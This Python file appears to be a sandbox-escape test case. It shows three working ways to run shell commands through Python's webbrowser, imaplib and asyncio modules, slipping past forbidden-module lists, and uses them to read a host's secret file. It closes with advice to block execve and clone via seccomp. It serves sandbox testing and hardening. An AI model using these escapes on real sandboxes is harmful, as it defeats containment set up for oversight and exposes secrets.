# title: Run a command through other modules
# tries: Has modules start a program that do so for their own ends: a web browser, a mail server's command, a pager, an asynchronous process. Lists of forbidden modules tend to forget them.
# impact: Escape
# reference: CVE-2026-53710
# proof: same
# host: run
# advice: Do not count on lists of forbidden modules; refuse execve and clone by seccomp.


def by_browser(command):
    import webbrowser

    webbrowser.GenericBrowser(["/bin/sh", "-c", command, "%s"]).open("nothing")


def by_mail_server(command):
    import imaplib

    try:
        imaplib.IMAP4_stream(f"{command}; echo '* BYE'")
    except imaplib.IMAP4.error:
        # It is no mail server, but it was started.
        pass


def by_asyncio(command):
    import asyncio

    async def start():
        process = await asyncio.create_subprocess_shell(command)
        await process.wait()

    asyncio.run(start())


def attempt(host):
    import os
    import shlex
    import tempfile

    ran = []
    failure = None
    with tempfile.TemporaryDirectory() as folder:
        for way in (by_browser, by_mail_server, by_asyncio):
            output = os.path.join(folder, way.__name__)
            try:
                way(f"(echo ran && cat {shlex.quote(host['secret_file'])}) > {shlex.quote(output)} 2>/dev/null")
            except Exception as error:
                failure = failure or error
            if os.path.exists(output):
                with open(output) as file:
                    ran.append(f"{way.__name__}: {file.read()}")
    if not ran and failure:
        raise failure
    return "\n".join(ran)
